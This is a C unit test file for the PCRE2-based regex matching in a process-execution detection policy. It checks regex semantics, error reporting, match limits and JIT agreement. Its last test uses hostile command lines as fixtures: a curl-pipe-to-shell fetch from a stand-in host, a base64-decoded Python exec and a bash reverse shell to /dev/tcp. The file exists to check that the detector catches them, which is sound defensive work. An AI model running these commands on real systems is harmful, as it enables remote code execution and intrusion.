// SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause
/*
 * Policy regexes are PCRE2: what users write (\d, \s, \w, \b, lookarounds)
 * means what they expect, errors point at the character, the POSIX
 * spellings PCRE2 would misread are refused, a match stopped by a limit
 * returns quickly with the answer that makes its rule fire, and the JIT
 * and the interpreter agree.
 */
#include <errno.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#include <cmocka.h>
#define PCRE2_CODE_UNIT_WIDTH 8
#include <pcre2.h>

#include "lib/regex.h"
#include "policy/policy_internal.h"
#include "policy_load.h"

/* One rule "r" with match: MATCH (flow YAML). */
static struct bw_policy *rule(const char *match)
{
	char yaml[2048], *errs = NULL;
	struct bw_policy *p;

	snprintf(yaml, sizeof(yaml), "rules:\n  - name: r\n    action: alert\n    match: %s\n",
		 match);
	p = load(yaml, &errs);
	if (!p)
		fail_msg("policy failed to load:\n%s\n%s", yaml, errs);
	free(errs);
	return p;
}

/* Whether the rule fires on an exec of /usr/bin/tool with one argument. */
static bool fires_on_arg(struct bw_policy *p, const char *arg)
{
	const char *argv[] = { "tool", arg, NULL };
	struct bw_exec_info e = { .exe = "/usr/bin/tool", .filename = "/usr/bin/tool",
				  .cwd = "/src", .argv = (char *const *)argv,
				  .argc_present = 2, .argc = 2 };

	return policy_match(p, &e, NULL, 0) == 1;
}

/* Whether regex re, as arg1's test, matches s. */
static bool re_hits(const char *re, const char *s)
{
	char match[1024];
	struct bw_policy *p;
	bool hit;

	snprintf(match, sizeof(match), "{arg1: {regex: '%s'}}", re);
	p = rule(match);
	hit = fires_on_arg(p, s);
	policy_free(p);
	return hit;
}

static void test_perl_classes_and_assertions(void **state)
{
	(void)state;
	/* glibc's ERE read \d as the letter d */
	assert_true(re_hits("^\\d+$", "2026"));
	assert_false(re_hits("^\\d+$", "ddd"));
	assert_true(re_hits("a\\sb", "a\tb"));
	assert_false(re_hits("a\\sb", "asb"));
	assert_true(re_hits("^\\w+$", "snake_case9"));
	assert_false(re_hits("^\\w+$", "not-a-word"));
	assert_true(re_hits("\\bcurl\\b", "x curl y"));
	assert_false(re_hits("\\bcurl\\b", "libcurl3"));
	assert_true(re_hits("^\\S+\\.\\S+$", "a.b"));
	assert_false(re_hits("^\\S+\\.\\S+$", "ab"));
	/* lookahead, negative lookahead, lookbehind */
	assert_true(re_hits("^token(?==)", "token=x"));
	assert_false(re_hits("^token(?==)", "token:x"));
	assert_true(re_hits("^/usr/(?!lib/)", "/usr/bin/x"));
	assert_false(re_hits("^/usr/(?!lib/)", "/usr/lib/x"));
	assert_true(re_hits("(?<=--key=)secret", "--key=secret"));
	assert_false(re_hits("(?<=--key=)secret", "--cat=secret"));
	/* possessive and lazy quantifiers, atomic groups, (?i) */
	assert_false(re_hits("^a++a$", "aaa"));
	assert_true(re_hits("^a+?a$", "aaa"));
	assert_true(re_hits("(?i)^CURL$", "curl"));
	assert_true(re_hits("^\\x41\\x{42}$", "AB"));
	/* POSIX bracket habits still read the same */
	assert_true(re_hits("^[[:digit:]]+$", "42"));
	assert_true(re_hits("^[]a]+$", "]a]"));
	assert_true(re_hits("^\\[[^]]*\\]$", "[kworker/0:1]"));
	/* '.' spans newlines and '$' is the very end, as in POSIX: a newline in
	 * an argument neither hides a match nor adds one */
	assert_true(re_hits("^curl.*[|]", "curl x\n| sh"));
	assert_false(re_hits("^/usr/bin/npm$", "/usr/bin/npm\n"));
	assert_true(re_hits("^/usr/bin/npm\\n?$", "/usr/bin/npm\n"));
}

/* The error line (t.yaml:POS: error: ...) of yaml, which must not load. */
static void expect_error(const char *yaml, const char *pos, const char *what)
{
	char *errs = NULL, prefix[64];
	struct bw_policy *p = load(yaml, &errs);

	assert_null(p);
	snprintf(prefix, sizeof(prefix), "t.yaml:%s: error: ", pos);
	if (strncmp(errs, prefix, strlen(prefix)) || !strstr(errs, what))
		fail_msg("expected \"%s...%s\" in:\n%s", prefix, what, errs);
	free(errs);
}

static void test_error_positions(void **state)
{
	(void)state;
	/* plain: the pattern starts at column 24; PCRE2 stops at its end, offset 8 */
	expect_error("rules:\n  - name: r\n    action: log\n    match:\n"
		     "      cmdline: {regex: ab\\d(c?x}\n",
		     "5:32", "bad regex 'ab\\d(c?x': missing closing parenthesis (at offset 8)");
	/* single quotes: '' is one character of the pattern, two of the file */
	expect_error("rules:\n  - name: r\n    action: log\n    match:\n"
		     "      cmdline: {regex: 'it''s[z-a]'}\n",
		     "5:33", "range out of order in character class (at offset 7)");
	/* double quotes: "\\\\d" is two characters of the pattern, three of the
	 * file; PCRE2 stops after the k (offset 5), column 31 + 1 */
	expect_error("rules:\n  - name: r\n    action: log\n    match:\n"
		     "      cmdline: {regex: \"\\\\d+\\\\k\"}\n",
		     "5:32", "bad regex '\\d+\\k': \\k is not followed by a braced");
	/* in a list, on a later line */
	expect_error("rules:\n  - name: r\n    action: log\n    match:\n"
		     "      cmdline:\n        regex:\n          - ok\n          - 'a{2,1}'\n",
		     "8:19", "numbers out of order in {} quantifier");
	/* a block scalar is not followed: the error points at the scalar */
	expect_error("rules:\n  - name: r\n    action: log\n    match:\n"
		     "      cmdline:\n        regex: |-\n          a(b\n",
		     "6:16", "missing closing parenthesis");
	/* UTF mode is off for good: (*UTF) cannot switch it on */
	expect_error("rules:\n  - {name: r, action: log, match: {cmdline: {regex: '(*UTF)x'}}}\n",
		     "2:60", "using UTF is disabled");
}

/* What glibc read one way and PCRE2 would read another is refused. */
static void test_posix_habits_refused(void **state)
{
	(void)state;
	expect_error("rules:\n  - {name: r, action: log, match: {cmdline: {regex: 'x\\<curl\\>'}}}\n",
		     "2:55", "'\\<' is a GNU word boundary");
	expect_error("rules:\n  - {name: r, action: log, match: {cmdline: {regex: 'a{,3}'}}}\n",
		     "2:55", "write {0,n}");
	expect_error("rules:\n  - {name: r, action: log, match: {cmdline: {regex: \"^x\\\\'\"}}}\n",
		     "2:56", "write \\A or \\z");
	/* the same characters are fine in a class, quoted, or as PCRE2 means them */
	assert_true(re_hits("^[\\<>]+$", "<>"));
	assert_true(re_hits("^\\Q\\<{,3}\\E$", "\\<{,3}"));
	assert_true(re_hits("^a{0,3}$", "aa"));
}

static double now_ms(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec * 1e3 + ts.tv_nsec / 1e6;
}

/* stderr into a file for the duration, to count warnings. */
struct capture {
	FILE *f;
	int saved;
};

static void capture_start(struct capture *c)
{
	fflush(stderr);
	c->f = tmpfile();
	assert_non_null(c->f);
	c->saved = dup(STDERR_FILENO);
	dup2(fileno(c->f), STDERR_FILENO);
}

/* The number of lines written containing what. */
static int capture_end(struct capture *c, const char *what)
{
	char line[1024];
	int n = 0;

	fflush(stderr);
	dup2(c->saved, STDERR_FILENO);
	close(c->saved);
	rewind(c->f);
	while (fgets(line, sizeof(line), c->f))
		n += strstr(line, what) != NULL;
	fclose(c->f);
	return n;
}

/*
 * A catastrophic pattern on a long argument stops at the match limit in
 * milliseconds; the rule fires (under a not: too: the limit takes the
 * answer that fires), with one warning however often it happens.
 */
static void test_limit_outcome(void **state)
{
	static char arg[16384];
	struct bw_policy *plain, *negated;
	struct capture cap;
	double t0, worst = 0;

	(void)state;
	memset(arg, 'a', sizeof(arg) - 2);
	arg[sizeof(arg) - 2] = '!';
	plain = rule("{arg1: {regex: '^(a|aa)+$'}}");
	negated = rule("{arg1: {not: {regex: '^(a|aa)+$'}}}");
	assert_false(fires_on_arg(plain, "aab"));
	assert_true(fires_on_arg(negated, "aab"));
	capture_start(&cap);
	for (int i = 0; i < 3; i++) {
		bool a, b;

		t0 = now_ms();
		a = fires_on_arg(plain, arg);
		b = fires_on_arg(negated, arg);
		worst = now_ms() - t0 > worst ? now_ms() - t0 : worst;
		assert_true(a);
		assert_true(b);
	}
	assert_int_equal(capture_end(&cap, "stopped at a match limit"), 2);
	/* two matches, each bounded by REGEX_MATCH_LIMIT steps and 16 MiB */
	if (worst > 2000)
		fail_msg("two limited matches took %.0f ms", worst);
	print_message("# two limited matches on 16 KiB: %.1f ms at worst\n", worst);
	policy_free(plain);
	policy_free(negated);
}

static void test_compile_limits(void **state)
{
	static char yaml[REGEX_MAX_PATTERN + 256];
	char *errs = NULL, *s;
	struct regex *re;
	size_t size, fit, i;
	struct bw_policy *p;

	(void)state;
	/* one pattern longer than REGEX_MAX_PATTERN */
	s = yaml + sprintf(yaml, "rules:\n  - {name: r, action: log, match: {cmdline: {regex: '");
	memset(s, 'a', REGEX_MAX_PATTERN + 1);
	strcpy(s + REGEX_MAX_PATTERN + 1, "'}}}\n");
	p = load(yaml, &errs);
	assert_null(p);
	if (!strstr(errs, "pattern string is longer than the limit"))
		fail_msg("%s", errs);
	free(errs);
	/* the policy's total: as many of one big regex as fit, then one error */
	assert_int_equal(regex_compile("(a|b){5000}", 0, &re, NULL), 0);
	size = regex_size(re);
	regex_free(re);
	fit = POLICY_MAX_REGEX_TOTAL / size;
	assert_true(fit < 200);
	s = yaml + sprintf(yaml, "rules:\n  - name: r\n    action: log\n    match:\n"
				 "      cmdline:\n        regex:\n");
	for (i = 0; i < fit; i++)
		s += sprintf(s, "          - '(a|b){5000}'\n");
	p = load(yaml, &errs);
	if (!p)
		fail_msg("%zu regexes of %zu bytes should fit:\n%s", fit, size, errs);
	policy_free(p);
	free(errs);
	for (i = 0; i < 3; i++)
		s += sprintf(s, "          - '(a|b){5000}'\n");
	p = load(yaml, &errs);
	assert_null(p);
	if (!strstr(errs, "policy too large: its regexes take more than") ||
	    strchr(errs, '\n') != errs + strlen(errs) - 1)
		fail_msg("expected one error:\n%s", errs);
	free(errs);
}

/* Patterns and subjects on which the JIT and the interpreter must agree. */
static const char *const agree_res[] = {
	"^\\d+$", "\\s", "\\bx\\b", "(?<=a)b", "(?!ab)a", "^(a|b)*$", "a++b", "(?i)ab",
	"[[:alpha:]][^[:space:]]*$", "^$", ".", "\\Aa\\z", "(?:x|y){3,5}", "^(\\w+\\s?)*$",
	"(a|aa)+$", "^.*\\n", "[]-]", "\\x00", NULL,
};
static const char *const agree_subjects[] = {
	"", "a", "ab", "aab", "123", "12a", " x ", "x", "xyxyx", "AB", "a\nb", "a b c d", "--",
	"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaab", NULL,
};

static void test_jit_and_interpreter_agree(void **state)
{
	uint32_t have_jit = 0;

	(void)state;
	pcre2_config(PCRE2_CONFIG_JIT, &have_jit);
	for (const char *const *r = agree_res; *r; r++) {
		struct regex *jit, *interp;

		assert_int_equal(regex_compile(*r, 0, &jit, NULL), 0);
		assert_int_equal(regex_compile(*r, REGEX_NO_JIT, &interp, NULL), 0);
		assert_false(regex_jitted(interp));
		if (have_jit && !regex_jitted(jit))
			fail_msg("JIT available but '%s' was not compiled by it", *r);
		for (const char *const *s = agree_subjects; *s; s++) {
			int a = regex_match(jit, *s, strlen(*s));
			int b = regex_match(interp, *s, strlen(*s));

			if ((a > 0) != (b > 0))
				fail_msg("'%s' on '%s': JIT %d, interpreter %d", *r, *s, a, b);
		}
		regex_free(jit);
		regex_free(interp);
	}
	if (!have_jit)
		print_message("# PCRE2 has no JIT here: only the interpreter was tested\n");
}

/*
 * regex_match answers some subjects without PCRE2 (too short, or an anchored
 * pattern's first byte): it must answer as PCRE2 alone does, with the same
 * options, on patterns whose first byte is a letter in either case, a set,
 * caseless, or not known (empty matches, multiline, lookbehind).
 */
static const char *const start_res[] = {
	"^python", "^(?i)python", "(?i)^python", "^(python[0-9.]*|perl|node)$", "^[Pp]ip$",
	"^\\[[^]]*\\]$", "^/(tmp|var/tmp)/[.]", "\\A\\d", "^$", "^a*$", "(?m)^b", "^(?<=x)y",
	"^.", "^(?i:x)|^y", "^\\x{e9}", "^ab|cd", "^(?:ab|(?i)cd)", "^a*", "^(a|)", "^a?b",
	"^[ab]?c", NULL,
};
static const char *const start_subjects[] = {
	"", "p", "python", "PYTHON3", "Python", "pythonx", "perl", "node", "nodejs", "pip", "Pip",
	"PIP", "[kworker/0:1]", "kworker", "/tmp/.x", "/var/tmp/.y", "/usr/bin/x", "7", "a", "aaa",
	"b", "a\nb", "xy", "y", "X", "\xe9", "\xc9", "ab", "cd", "CD", "xcd", NULL,
};

/* re compiled by plain PCRE2 with regex_compile's options: what it must answer as. */
static pcre2_code *plain_pcre2(const char *re)
{
	const uint32_t opts = PCRE2_DOTALL | PCRE2_DOLLAR_ENDONLY | PCRE2_NO_AUTO_CAPTURE |
			      PCRE2_NEVER_UTF;
	PCRE2_SIZE off;
	pcre2_code *raw;
	int rc;

	raw = pcre2_compile((PCRE2_SPTR)re, PCRE2_ZERO_TERMINATED, opts, &rc, &off, NULL);
	if (!raw)
		fail_msg("'%s' does not compile in plain PCRE2 (error %d)", re, rc);
	return raw;
}

static void test_prefilter_agrees_with_pcre2(void **state)
{
	(void)state;
	for (const char *const *r = start_res; *r; r++) {
		pcre2_match_data *md = pcre2_match_data_create(1, NULL);
		pcre2_code *raw = plain_pcre2(*r);
		struct regex *ours, *ours_interp;

		assert_non_null(md);
		assert_int_equal(regex_compile(*r, 0, &ours, NULL), 0);
		assert_int_equal(regex_compile(*r, REGEX_NO_JIT, &ours_interp, NULL), 0);
		for (const char *const *s = start_subjects; *s; s++) {
			size_t len = strlen(*s);
			int want = pcre2_match(raw, (PCRE2_SPTR)*s, len, 0, 0, md, NULL) >= 0;

			if ((regex_match(ours, *s, len) > 0) != want ||
			    (regex_match(ours_interp, *s, len) > 0) != want)
				fail_msg("'%s' on '%s': PCRE2 says %d, regex_match disagrees", *r,
					 *s, want);
		}
		regex_free(ours);
		regex_free(ours_interp);
		pcre2_code_free(raw);
		pcre2_match_data_free(md);
	}
}

/*
 * regex_match keeps its last answers for short subjects: asked again, in
 * any order, about more subjects than it keeps, about subjects that differ
 * only in their last byte, their length or a NUL inside, and about the
 * longest kept and the shortest not kept, it must still answer as PCRE2.
 */
static const char *const memo_res[] = {
	"/([.][.][.]+|[[:space:]][^/]*|[^/]*[[:space:]])/", "gcc", "^/usr/", "x$", "\\x00", NULL,
};

static void test_memo_agrees_with_pcre2(void **state)
{
	char subj[24][80];
	size_t lens[24], n = 0, i, round;

	(void)state;
	for (i = 0; i < 12; i++, n++) /* more than the slots, same length, last byte differs */
		lens[n] = (size_t)snprintf(subj[n], 80, "/usr/bin/gcc-%02zu%c", i, i % 3 ? 'x' : 'y');
	for (i = 0; i < 4; i++, n++) /* a prefix and extensions of others kept */
		lens[n] = (size_t)snprintf(subj[n], 80, "%s",
					   (const char *[]){ "/usr/bin/gcc", "/usr/bin/gcc-12x",
							     "/usr/bin/gcc-12", "/tmp/.../x" }[i]);
	memcpy(subj[n], "/usr/bin/gcc\0x", 15); /* a NUL inside: the length decides */
	lens[n++] = 14;
	memcpy(subj[n], "/usr/bin/gcc\0y", 15);
	lens[n++] = 14;
	for (size_t len = 63; len <= 65; len++) { /* around the longest subject kept */
		memset(subj[n], 'a', len);
		memcpy(subj[n], "/usr/", 5);
		subj[n][len - 1] = 'x';
		lens[n++] = len;
	}
	for (const char *const *r = memo_res; *r; r++) {
		pcre2_match_data *md = pcre2_match_data_create(1, NULL);
		pcre2_code *raw = plain_pcre2(*r);
		struct regex *ours, *no_memo;

		assert_non_null(md);
		assert_int_equal(regex_compile(*r, 0, &ours, NULL), 0);
		assert_int_equal(regex_compile(*r, REGEX_NO_MEMO, &no_memo, NULL), 0);
		for (round = 0; round < 3 * n; round++) {
			/* forwards, backwards, then every seventh: each order evicts differently */
			i = round < n ? round : round < 2 * n ? 2 * n - 1 - round : (round * 7) % n;
			int want = pcre2_match(raw, (PCRE2_SPTR)subj[i], lens[i], 0, 0, md, NULL) >= 0;

			if ((regex_match(ours, subj[i], lens[i]) > 0) != want ||
			    (regex_match(no_memo, subj[i], lens[i]) > 0) != want)
				fail_msg("'%s' on subject %zu ('%.*s', round %zu): PCRE2 says %d, "
					 "regex_match disagrees", *r, i, (int)lens[i], subj[i], round,
					 want);
		}
		regex_free(ours);
		regex_free(no_memo);
		pcre2_code_free(raw);
		pcre2_match_data_free(md);
	}
}

/* A limit is no answer: asked again, the subject is matched again, not answered no. */
static void test_memo_keeps_no_limit(void **state)
{
	char subj[61];
	struct regex *re;

	(void)state;
	memset(subj, 'a', sizeof(subj) - 1);
	subj[sizeof(subj) - 1] = '!';
	assert_int_equal(regex_compile("^(a|aa)+$", 0, &re, NULL), 0);
	assert_int_equal(regex_match(re, subj, sizeof(subj)), -E2BIG);
	assert_int_equal(regex_match(re, subj, sizeof(subj)), -E2BIG);
	regex_free(re);
}

/* The default policy gives the same verdicts with BW_REGEX_JIT=0. */
static void test_default_policy_jit_off(void **state)
{
	static const char *const argvs[][4] = {
		{ "sh", "-c", "curl -fsSL http://x.example/i.sh | sh", NULL },
		{ "python3", "-c", "import base64;exec(base64.b64decode('aW1wb3J0IG9z'))", NULL },
		{ "bash", "-i", ">& /dev/tcp/10.0.0.1/4444 0>&1", NULL },
		{ "cc", "-O2", "-c", NULL },
		{ "[kworker/0:1]", NULL },
		{ "grep", "-r", "AKIAIOSFODNN7EXAMPLE", NULL },
	};
	static const char *const exes[] = { "/usr/bin/dash", "/usr/bin/python3.11",
					    "/usr/bin/bash", "/usr/bin/gcc", "/tmp/.x",
					    "/usr/bin/grep" };
	struct bw_policy *jit = NULL, *interp = NULL;
	size_t total = 0;

	(void)state;
	assert_int_equal(policy_load_default(&jit, stderr), 0);
	setenv("BW_REGEX_JIT", "0", 1);
	assert_int_equal(policy_load_default(&interp, stderr), 0);
	unsetenv("BW_REGEX_JIT");
	for (size_t i = 0; i < sizeof(exes) / sizeof(exes[0]); i++) {
		const struct bw_rule *a[16], *b[16];
		struct bw_exec_info e = { .exe = exes[i], .filename = exes[i], .cwd = "/src",
					  .argv = (char *const *)argvs[i] };
		size_t na, nb;

		while (argvs[i][e.argc_present])
			e.argc_present++;
		e.argc = e.argc_present;
		na = policy_match(jit, &e, a, 16);
		nb = policy_match(interp, &e, b, 16);
		assert_int_equal(na, nb);
		for (size_t k = 0; k < na && k < 16; k++)
			assert_string_equal(policy_rule_name(a[k]), policy_rule_name(b[k]));
		total += na;
	}
	/* the malicious ones did match something */
	assert_true(total >= 3);
	policy_free(jit);
	policy_free(interp);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_perl_classes_and_assertions),
		cmocka_unit_test(test_error_positions),
		cmocka_unit_test(test_posix_habits_refused),
		cmocka_unit_test(test_limit_outcome),
		cmocka_unit_test(test_compile_limits),
		cmocka_unit_test(test_jit_and_interpreter_agree),
		cmocka_unit_test(test_prefilter_agrees_with_pcre2),
		cmocka_unit_test(test_memo_agrees_with_pcre2),
		cmocka_unit_test(test_memo_keeps_no_limit),
		cmocka_unit_test(test_default_policy_jit_off),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
